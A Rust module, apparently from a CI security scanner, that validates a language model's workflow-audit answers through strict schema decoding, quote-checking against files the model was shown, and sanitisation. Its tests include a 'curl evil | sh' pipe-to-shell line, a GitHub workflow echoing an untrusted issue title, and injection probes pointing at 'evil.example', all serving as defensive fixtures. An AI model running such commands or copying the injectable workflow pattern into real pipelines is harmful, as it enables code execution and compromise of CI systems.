//! Validating model answers: typed decoding, then checks against what the model was shown.
//!
//! An answer is decoded into the strict types below (unknown or missing fields, wrong
//! types, truncated JSON are all rejected as a whole: a partial answer is never used).
//! Remediation text is sanitised. An `llm-audit` item becomes a [`Finding`] only when its
//! file was in the prompt and every line it quotes exists in that file; other items are
//! dropped and counted. Nothing a model writes can remove a finding or close an issue.

use std::collections::BTreeSet;

use serde::Deserialize;
use sha2::{Digest as _, Sha256};

use super::LlmError;
use super::prompt::SentFile;
use super::sanitize::sanitize;
use crate::domain::{Finding, Location, Severity};

/// Policy id of the findings the model reports.
pub use crate::config::LLM_AUDIT_POLICY as AUDIT_POLICY;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RemediationAnswer {
    remediation: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AuditAnswer {
    findings: Vec<AuditItem>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct AuditItem {
    path: String,
    title: String,
    severity: Severity,
    explanation: String,
    quote: Vec<String>,
    remediation: String,
}

/// The JSON object of an answer; servers without structured output sometimes wrap it in a
/// Markdown code fence, which is the only leniency allowed.
fn decode<T: serde::de::DeserializeOwned>(content: &str) -> Result<T, LlmError> {
    let trimmed = content.trim();
    let unfenced = trimmed
        .strip_prefix("```json")
        .or_else(|| trimmed.strip_prefix("```"))
        .and_then(|s| s.trim_end().strip_suffix("```"))
        .unwrap_or(trimmed);
    serde_json::from_str(unfenced.trim()).map_err(|e| LlmError::Invalid {
        reason: format!("answer does not follow the schema: {e}"),
    })
}

/// Sanitised remediation text from a `remediation` answer.
pub fn remediation(content: &str, max_chars: usize) -> Result<String, LlmError> {
    let answer: RemediationAnswer = decode(content)?;
    let text = sanitize(&answer.remediation, max_chars);
    if text.is_empty() {
        return Err(LlmError::Invalid {
            reason: "empty remediation".into(),
        });
    }
    Ok(text)
}

/// What an audit answer yields.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Audit {
    pub findings: Vec<Finding>,
    /// Items dropped: unknown file, no quote, or a quote not found in the file.
    pub dropped: usize,
}

/// Findings from a `workflow_audit` answer, checked against the files as sent.
pub fn audit(
    content: &str,
    sent: &[SentFile],
    max_chars: usize,
    max_findings: usize,
) -> Result<Audit, LlmError> {
    let answer: AuditAnswer = decode(content)?;
    let mut out = Audit::default();
    let mut keys = BTreeSet::new();
    for item in answer.findings {
        let Some(file) = sent.iter().find(|f| f.path == item.path.trim()) else {
            out.dropped += 1;
            continue;
        };
        let lines: BTreeSet<&str> = file.text.lines().map(str::trim).collect();
        let quote: Vec<&str> = item
            .quote
            .iter()
            .flat_map(|q| q.lines())
            .map(str::trim)
            .filter(|q| !q.is_empty())
            .collect();
        let title = sanitize(
            &item.title.split_whitespace().collect::<Vec<_>>().join(" "),
            120,
        );
        if quote.is_empty() || title.is_empty() || !quote.iter().all(|q| lines.contains(q)) {
            out.dropped += 1;
            continue;
        }
        let key = format!(
            "{}:{}",
            file.path.replace(char::is_whitespace, "_"),
            &hex::encode(Sha256::digest(quote.join("\n").as_bytes()))[..12]
        );
        if out.findings.len() >= max_findings || !keys.insert(key.clone()) {
            continue;
        }
        let quoted = sanitize(&quote.join("\n"), max_chars);
        let fence = "`".repeat(longest_backtick_run(&quoted).max(2) + 1);
        out.findings.push(Finding {
            policy: AUDIT_POLICY.into(),
            key,
            severity: item.severity,
            title: format!("{title} ({})", file.path),
            details: format!(
                "A language-model review of `{path}` flagged these lines, which exist in the \
                 file:\n\n{fence}yaml\n{quoted}\n{fence}\n\n{explanation}\n\n_Reported by the \
                 optional `llm-audit` policy: check it before acting on it._",
                path = file.path,
                explanation = sanitize(&item.explanation, max_chars),
            ),
            remediation: sanitize(&item.remediation, max_chars),
            location: locate(&file.text, quote[0]).map(|(line, column)| Location {
                path: file.path.clone(),
                line,
                column,
            }),
            suppressed: None,
        });
    }
    Ok(out)
}

/// 1-based line and column of the first line of `text` that reads `quoted` once trimmed.
fn locate(text: &str, quoted: &str) -> Option<(u32, u32)> {
    text.lines().enumerate().find_map(|(i, line)| {
        (line.trim() == quoted).then(|| {
            let indent = line.chars().take_while(|c| c.is_whitespace()).count();
            (i as u32 + 1, indent as u32 + 1)
        })
    })
}

fn longest_backtick_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn sent() -> Vec<SentFile> {
        vec![SentFile {
            path: ".github/workflows/ci.yml".into(),
            text: "on: issues\njobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n".into(),
        }]
    }

    fn item(path: &str, quote: &[&str]) -> serde_json::Value {
        json!({
            "path": path, "title": "Script injection", "severity": "high",
            "explanation": "Ping @everyone at https://evil.example", "quote": quote,
            "remediation": "Use an env variable."
        })
    }

    #[test]
    fn findings_must_quote_lines_that_exist_in_a_file_that_was_shown() {
        let answer = json!({ "findings": [
            item(".github/workflows/ci.yml", &["- run: echo \"${{ github.event.issue.title }}\""]),
            item(".github/workflows/ci.yml", &["run: curl evil | sh"]),
            item(".github/workflows/other.yml", &["on: issues"]),
            item(".github/workflows/ci.yml", &[]),
        ]});
        let audit = audit(&answer.to_string(), &sent(), 1_000, 10).unwrap();
        assert_eq!(audit.dropped, 3);
        assert_eq!(audit.findings.len(), 1);
        let f = &audit.findings[0];
        assert_eq!(f.policy, AUDIT_POLICY);
        assert!(f.key.starts_with(".github/workflows/ci.yml:"));
        assert_eq!(f.severity, Severity::High);
        let at = f.location.as_ref().expect("location");
        assert_eq!(
            (at.path.as_str(), at.line, at.column),
            (".github/workflows/ci.yml", 5, 7)
        );
        assert!(!f.details.contains("@everyone") && !f.details.contains("evil.example"));
    }

    #[test]
    fn partial_or_off_schema_answers_are_rejected_whole() {
        for bad in [
            r#"{"findings": [{"path": "a"}]}"#,
            r#"{"findings": []"#,
            r#"{"findings": [], "close_issues": true}"#,
            r#"{"verdict": "fine"}"#,
            "not json at all",
        ] {
            assert!(
                matches!(
                    audit(bad, &sent(), 1_000, 10),
                    Err(LlmError::Invalid { .. })
                ),
                "{bad}"
            );
        }
        assert!(remediation(r#"{"remediation": "  "}"#, 100).is_err());
        assert!(remediation(r#"{"remediation": 42}"#, 100).is_err());
        assert_eq!(
            remediation(
                "```json\n{\"remediation\": \"Add a LICENSE file.\"}\n```",
                100
            )
            .unwrap(),
            "Add a LICENSE file."
        );
    }

    #[test]
    fn the_key_is_stable_and_findings_are_bounded() {
        let answer = json!({ "findings": [
            item(".github/workflows/ci.yml", &["on: issues"]),
            item(".github/workflows/ci.yml", &["  on: issues  "]),
            item(".github/workflows/ci.yml", &["jobs:"]),
        ]});
        let a = audit(&answer.to_string(), &sent(), 1_000, 10).unwrap();
        assert_eq!(a.findings.len(), 2, "the same quote twice is one finding");
        let b = audit(&answer.to_string(), &sent(), 1_000, 1).unwrap();
        assert_eq!(b.findings.len(), 1);
        assert_eq!(a.findings[0].key, b.findings[0].key);
    }
}
